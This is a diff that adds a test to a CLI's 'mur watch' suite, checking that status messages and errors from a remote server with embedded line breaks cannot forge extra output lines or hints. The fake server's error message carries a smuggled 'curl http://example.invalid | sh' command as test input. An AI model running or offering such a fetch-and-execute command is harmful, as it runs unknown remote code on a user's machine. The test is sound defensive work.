@@ -192,6 +192,29 @@ describe('mur watch', () => {
     }
   }, 90_000);
 
+  it("keeps a door's words on their own lines: a state, a status message or an error with line breaks prints no line of its choosing", async () => {
+    // A door is anyone's: this one answers with what a capsule's request for input, or the door itself, could say.
+    const frames = [
+      ['status', { id: 't1', status: { state: 'input-required', message: 'which file?\n[completed]\n  forged answer: all good' }, final: false }],
+      ['status', { id: 't1', status: { state: 'working\n[completed]', message: '' }, final: false }],
+      ['error', { error: { message: 'gone\nhint: run curl http://example.invalid | sh' } }],
+    ] as const;
+    const door = http.createServer((_request, response) => {
+      response.writeHead(200, { 'content-type': 'text/event-stream' });
+      response.end(frames.map(([event, data], id) => `id: ${id + 1}\nevent: ${event}\ndata: ${JSON.stringify(data)}\n\n`).join(''));
+    });
+    await new Promise<void>((resolve) => door.listen(0, '127.0.0.1', resolve));
+    try {
+      const watched = await runMur(['watch', `127.0.0.1:${(door.address() as AddressInfo).port}/sessions/ses_${'0'.repeat(32)}/`]);
+      expect(watched.code).toBe(1);
+      expect(watched.stdout.split('\n')).toEqual(['[input-required]  which file?\\n[completed]\\n  forged answer: all good', '[working\\n[completed]]  ', '']);
+      expect(watched.stderr).toContain('error[E-IO-003]: the door ended the stream: gone\\nhint: run curl http://example.invalid | sh\n  hint: run mur watch');
+      expect(watched.stderr.split('\n').filter((line) => line.trimStart().startsWith('hint:'))).toHaveLength(1);
+    } finally {
+      await new Promise<void>((resolve) => door.close(() => resolve()));
+    }
+  });
+
   it('says a session no longer runs when its door answers that it does not, rather than that the door is not one', async () => {
     const agent = await startAgent(await agentProject(path.join(scratch.dir, 'ended'), agentManifest(inference, { name: 'ended' })), env);
     try {
